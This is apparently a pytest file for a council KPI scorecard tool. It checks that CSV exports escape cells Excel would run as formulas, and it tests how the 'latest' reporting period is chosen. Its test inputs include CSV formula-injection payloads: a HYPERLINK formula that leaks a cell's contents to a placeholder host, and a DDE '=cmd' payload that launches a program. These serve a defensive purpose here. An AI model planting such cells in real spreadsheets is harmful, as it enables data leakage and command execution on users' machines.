"""The machine-readable scorecard: a CSV that is safe to open in Excel, numbers kept as numbers."""

import csv
import json
import shutil
from pathlib import Path

import pandas as pd
from click.testing import CliRunner

from kpitools.cli import main
from kpitools.pack.build import excel_safe, write_scorecard

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_text_that_excel_would_run_is_made_plain_and_numbers_stay_numbers(tmp_path):
    card = pd.DataFrame({"indicator_id": ["A"] * len(HOSTILE), "title": HOSTILE, "value": [-1.5] * len(HOSTILE)})
    out = write_scorecard(card, {}, tmp_path / "card.csv")
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["title"] for r in rows] == ["'" + h for h in HOSTILE]
    assert all(r["value"] == "-1.5" for r in rows)  # a negative number is a number, not a formula
    # JSON is data for programs: the text as the analyst wrote it
    data = json.loads(write_scorecard(card, {}, tmp_path / "card.json").read_text(encoding="utf-8"))
    assert [r["title"] for r in data["scorecard"]] == HOSTILE
    assert excel_safe(card)["value"].tolist() == card["value"].tolist()


def test_no_cell_of_the_scorecard_csv_is_a_live_formula(tmp_path):
    """Through the command: a framework title and definition written as formulas."""
    raw = tmp_path / "raw"
    shutil.copytree(ROOT / "data" / "raw", raw)
    framework = raw / "framework" / "indicators.csv"
    table = pd.read_csv(framework, dtype=str, keep_default_na=False)
    table.loc[0, "title"] = HOSTILE[0]
    table.loc[1, "definition"] = "=cmd|' /C calc'!A0"
    table.to_csv(framework, index=False)
    out = tmp_path / "card.csv"
    r = CliRunner().invoke(
        main, ["score", "--authority", "Havering", "--period", "latest", "--data-dir", str(raw), "--out", str(out)]
    )
    assert r.exit_code == 0, r.output
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    live = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not _number(c))]
    assert live == []
    assert "'" + HOSTILE[0] in cells


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_latest_is_a_quarter_whose_every_figure_is_suppressed(tmp_path):
    """Before: the quarter was skipped and 'latest' moved back a quarter without a word."""
    from kpitools.core.authorities import resolve
    from kpitools.ingest.loaders import load_dataset
    from kpitools.pack.build import resolve_period

    raw = tmp_path / "raw"
    shutil.copytree(ROOT / "data" / "raw", raw)
    before = resolve_period(load_dataset(raw), resolve("Havering"), "latest")
    extract = raw / "local" / "havering" / "havering_suppressed.csv"
    framework = pd.read_csv(raw / "framework" / "indicators.csv")
    ids = framework.loc[framework["frequency"].eq("quarterly"), "indicator_id"]
    after_label = before.shift(1).label
    rows = "".join(f"Havering,{i},{after_label},c\n" for i in ids)
    extract.write_text("authority,indicator_id,period,value\n" + rows, encoding="utf-8")
    assert resolve_period(load_dataset(raw), resolve("Havering"), "latest").label == after_label
